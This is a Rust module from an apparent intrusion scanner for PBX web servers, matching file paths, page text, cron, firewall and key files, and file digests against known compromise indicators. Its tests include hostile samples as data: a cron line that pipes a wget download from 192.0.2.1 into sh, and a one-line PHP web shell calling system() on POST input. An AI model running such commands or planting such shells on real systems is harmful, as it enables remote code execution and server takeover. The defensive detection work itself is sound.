//! The marks that one file's path and text bear: those of campaigns, and those of its shape.

use std::sync::LazyLock;

use md5::{Digest as _, Md5};
use regex::bytes::{RegexSet, RegexSetBuilder};
use sha2::Sha256;

use super::place::Place;
use super::shape;
use crate::indicators::{self, Confidence, Indicator, Kind};

/// Marks of one file that are kept.
const MOST_MARKS: usize = 16;
/// No command is longer; the rest of such a line is not looked at.
const LONGEST_LINE: usize = 16 * 1024;

/// A mark, and where in the text it stands.
#[derive(Clone, Debug)]
pub(super) struct Judged {
    pub(super) indicator: Option<&'static Indicator>,
    pub(super) confidence: Confidence,
    pub(super) says: &'static str,
    /// Bytes from the file's first byte; `None` where the file as a whole is meant.
    pub(super) at: Option<usize>,
}

impl Judged {
    fn of(indicator: &'static Indicator, at: Option<usize>) -> Self {
        Judged { indicator: Some(indicator), confidence: indicator.confidence, says: &indicator.says, at }
    }
}

/// Returns whether a file bears a mark that anybody should see.
pub(super) fn is_marked(path: &str, place: Place, head: &[u8]) -> bool {
    marks(path, place, head, true).iter().any(|mark| mark.confidence > Confidence::Low)
}

/// Returns the marks of a file; `is_whole` says whether `head` is all of it.
pub(super) fn marks(path: &str, place: Place, head: &[u8], is_whole: bool) -> Vec<Judged> {
    let mut marks: Vec<Judged> = indicators::of(Kind::File)
        .filter(|(_, indicator)| indicator.fits(path.as_bytes()))
        .map(|(_, indicator)| Judged::of(indicator, None))
        .collect();
    if matches!(place, Place::Page | Place::WebSettings | Place::Temporary | Place::Helper) {
        of_text(head, &mut marks);
    }
    if place == Place::Page {
        let shapes = shape::of(path, head);
        marks.extend(shapes.into_iter().map(|shape| Judged {
            indicator: None,
            confidence: shape.confidence,
            says: shape.says,
            at: (shape.at > 0).then_some(shape.at),
        }));
    }
    // A script among pages is held against what commands look like as well.
    if place.has_commands()
        || (place == Place::Page && head.starts_with(b"#!"))
        || place == Place::ShellServer
    {
        of_lines(head, Kind::Line, &mut marks);
    }
    match place {
        Place::CallFile => of_lines(head, Kind::CallFile, &mut marks),
        Place::Firewall => of_lines(head, Kind::Firewall, &mut marks),
        Place::Passwords => of_lines(head, Kind::Hash, &mut marks),
        Place::Keys => of_lines(head, Kind::Key, &mut marks),
        _ => {}
    }
    if is_whole
        && !head.is_empty()
        && matches!(place, Place::Page | Place::Temporary | Place::Helper | Place::SetUser | Place::Named)
    {
        marks.extend(of_digest(head));
    }
    marks.truncate(MOST_MARKS);
    marks
}

/// Returns the marks of dialplan in a text.
pub(super) fn of_dialplan(text: &[u8]) -> Vec<Judged> {
    let mut marks = Vec::new();
    of_lines(text, Kind::Dialplan, &mut marks);
    marks.truncate(MOST_MARKS);
    marks
}

/// Adds the indicators that fit anywhere in a page's text, each once.
fn of_text(text: &[u8], marks: &mut Vec<Judged>) {
    // Of ten thousand pages nearly all bear none: one look for all marks at once tells so.
    static ANY: LazyLock<Option<RegexSet>> = LazyLock::new(|| {
        let patterns = indicators::of(Kind::Content).flat_map(|(_, indicator)| &indicator.written);
        RegexSetBuilder::new(patterns).unicode(false).multi_line(true).build().ok()
    });
    if ANY.as_ref().is_some_and(|any| !any.is_match(text)) {
        return;
    }
    for (_, indicator) in indicators::of(Kind::Content) {
        if let Some(found) = indicator.find(text) {
            marks.push(Judged::of(indicator, Some(found.start)));
        }
    }
}

/// Adds the indicators that fit a line, each once, at its first line; what is commented out does nothing.
fn of_lines(text: &[u8], kind: Kind, marks: &mut Vec<Judged>) {
    let kinds: Vec<&'static Indicator> = indicators::of(kind).map(|(_, indicator)| indicator).collect();
    let mut at = 0;
    for line in text.split(|&byte| byte == b'\n') {
        let looked = line.get(..LONGEST_LINE).unwrap_or(line);
        let trimmed = looked.trim_ascii_start();
        let is_comment = match kind {
            Kind::Dialplan => trimmed.starts_with(b";"),
            Kind::Key => false,
            _ => trimmed.starts_with(b"#") && !trimmed.starts_with(b"#!"),
        };
        if !is_comment && !trimmed.is_empty() {
            for indicator in &kinds {
                let is_known =
                    marks.iter().any(|mark| mark.indicator.is_some_and(|known| known.id == indicator.id));
                if !is_known && indicator.fits(looked) {
                    marks.push(Judged::of(indicator, Some(at)));
                }
            }
        }
        at += line.len() + 1;
    }
}

fn of_digest(bytes: &[u8]) -> Option<Judged> {
    let hex = |bytes: &[u8]| bytes.iter().map(|byte| format!("{byte:02x}")).collect::<String>();
    let (md5, sha256) = (hex(&Md5::digest(bytes)), hex(&Sha256::digest(bytes)));
    let first = sha256.get(..8)?;
    let mut known = indicators::of(Kind::Digest);
    let (_, indicator) =
        known.find(|(_, indicator)| indicator.fits(md5.as_bytes()) || indicator.fits(first.as_bytes()))?;
    Some(Judged::of(indicator, None))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ids(path: &str, place: Place, text: &str) -> Vec<&'static str> {
        let marks = marks(path, place, text.as_bytes(), true);
        marks.iter().map(|mark| mark.indicator.map_or("shape", |indicator| indicator.id.as_str())).collect()
    }

    #[test]
    fn marks_of_pages_and_jobs() {
        assert_eq!(ids("/var/www/html/modular.php", Place::Page, "<?php x(); ?>"), ["e57819-5"]);
        assert_eq!(ids("/var/www/html/a.php", Place::Page, "<?php system($_POST['a']);"), ["generic-4"]);
        let cron = "# wget http://192.0.2.1/a | sh\n* * * * * wget -qO- http://192.0.2.1/a | sh\n";
        let found = marks("/etc/cron.d/a", Place::Cron, cron.as_bytes(), true);
        assert_eq!(found.iter().map(|mark| mark.at).collect::<Vec<_>>(), [Some(31)]);
    }

    #[test]
    fn what_administrators_write_bears_none() {
        for (path, place, text) in [
            (
                "/etc/cron.d/vendor-backup",
                Place::Cron,
                "15 2 * * * bkpsvc /opt/northgate/bin/pbx-backup.sh -q >/dev/null 2>&1\n",
            ),
            (
                "/var/spool/cron/root",
                Place::Cron,
                "*/5 * * * * /usr/local/sbin/check_trunk.sh >/dev/null 2>&1\n",
            ),
            (
                "/var/spool/cron/asterisk",
                Place::Cron,
                "* * * * * [ -e /usr/sbin/fwconsole ] && /usr/sbin/fwconsole job --run --quiet 2>&1 > /dev/null\n",
            ),
            (
                "/etc/cron.d/php",
                Place::Cron,
                "09,39 * * * * root [ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean\n",
            ),
            (
                "/var/www/html/admin/config.php",
                Place::Page,
                "<?php $d = unserialize(base64_decode($row['data']));\n",
            ),
            ("/etc/rc.local", Place::Startup, "#!/bin/sh\n/usr/sbin/fwconsole start\nexit 0\n"),
        ] {
            assert!(ids(path, place, text).is_empty(), "{path}: {:?}", ids(path, place, text));
        }
    }

    proptest::proptest! {
        #[test]
        fn any_bytes_are_judged(path in ".{0,40}", head in proptest::collection::vec(proptest::num::u8::ANY, 0..2_000)) {
            for place in [Place::Page, Place::Cron, Place::Keys, Place::Passwords, Place::Firewall, Place::Named] {
                let _ = marks(&path, place, &head, true);
            }
        }
    }
}
